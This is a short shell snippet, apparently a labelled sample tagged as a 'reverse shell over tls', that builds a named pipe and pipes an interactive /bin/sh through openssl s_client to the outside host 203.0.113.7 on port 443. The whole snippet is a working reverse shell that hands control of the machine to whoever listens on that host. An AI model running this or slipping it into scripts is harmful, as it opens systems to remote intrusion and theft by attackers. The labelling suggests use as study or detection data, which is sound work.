# class: reverse shell over tls; style: tidy
pipe=$(mktemp -u)
mkfifo "$pipe"
/bin/sh -i < "$pipe" 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > "$pipe"
rm -f "$pipe"
